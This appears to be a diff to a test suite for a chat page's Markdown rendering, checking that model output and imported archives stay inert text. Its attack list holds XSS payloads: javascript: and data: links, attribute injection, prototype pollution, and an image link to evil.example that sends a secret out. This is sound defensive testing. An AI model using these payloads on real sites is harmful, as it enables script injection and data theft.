@@ -1,6 +1,7 @@
 """A model's output is hostile: whatever it writes, wherever it is shown, it stays text. The page's policy never even has to refuse."""
 
 import json
+import re
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -24,7 +25,7 @@ ATTACKS = [
     "[click](data:text/html,<script>parent.pwned=1</script>)",
     "[click](vbscript:msgbox) [click](file:///etc/passwd) [click](blob:https://evil.example/1)",
     "[click](//evil.example/x) [click](/v1/models) [click](\\\\evil.example\\x)",
-    '[click](https://ok.example "\" onmouseover=window.pwned=1 x=\"")',
+    '[click](https://ok.example "" onmouseover=window.pwned=1 x="")',
     "[a](https://ok.example/?x=%22%20onclick=%22window.pwned=1)",
     "<javascript:window.pwned=1> <https://ok.example/onerror=1>",
     "![x](https://evil.example/steal?q=secret)",
@@ -52,8 +53,11 @@ ATTACKS = [
 ]
 
 # Everything that Markdown can become; an element outside this list would be an invention of the text.
-ALLOWED = """a blockquote br button code del div em h3 h4 h5 h6 hr img input li ol p path pre span strong svg table tbody td th thead tr ul
-math mfrac mi mn mo mover mphantom mroot mrow mspace msqrt msub msubsup msup mtable mtd mtext mtr munder munderover""".split()
+ALLOWED = re.findall(
+    r"\w+",
+    """a blockquote br button code del div em h3 h4 h5 h6 hr img input li ol p path pre span strong svg table tbody td th thead tr ul
+math mfrac mi mn mo mover mphantom mroot mrow mspace msqrt msub msubsup msup mtable mtd mtext mtr munder munderover""",
+)
 
 INSPECT = """(root) => {
     const found = [];
@@ -107,7 +111,9 @@ def test_attacks_stay_text_when_they_are_drawn(shared_page):
 @given(
     texts=st.lists(
         st.lists(
-            st.sampled_from([*ATTACKS, *"[]()<>*_`~$\\|#-!\n\n\"'&;:/", "](", "javascript:", "data:", "```\n", "$$", "\\(", "> ", "- ", "1. ", "x", " "]),
+            st.sampled_from(
+                [*ATTACKS, *"[]()<>*_`~$\\|#-!\n\n\"'&;:/", "](", "javascript:", "data:", "```\n", "$$", "\\(", "> ", "- ", "1. ", "x", " "]
+            ),
             max_size=14,
         ).map("".join),
         min_size=12,
@@ -148,7 +154,13 @@ def test_names_and_errors_from_the_server_are_text_too(page, server, reply, say)
 def hostile_archive():
     node = {"id": "__proto__", "parent": "", "role": "user", "content": "<img src=x onerror=window.pwned=1>", "__proto__": {"polluted": 1}}
     pictures = ["javascript:window.pwned=1", "data:image/svg+xml,<svg onload=window.pwned=1>", "https://evil.example/x.png", 5]
-    second = {"id": "constructor", "parent": "__proto__", "role": "assistant", "content": "[x](javascript:window.pwned=1)", "images": pictures}
+    second = {
+        "id": "constructor",
+        "parent": "__proto__",
+        "role": "assistant",
+        "content": "[x](javascript:window.pwned=1)",
+        "images": pictures,
+    }
     conversation = {
         "id": "__proto__",
         "title": "<script>window.pwned=1</script>",
@@ -173,7 +185,7 @@ def test_a_hostile_file_brings_only_text(page):
 
 
 @pytest.mark.parametrize(
-    "change, words",
+    ("change", "words"),
     [
         (lambda data: data.update(format="other"), "not an export of this page"),
         (lambda data: data["conversations"][0].update(nodes=5), "needs a list of messages"),
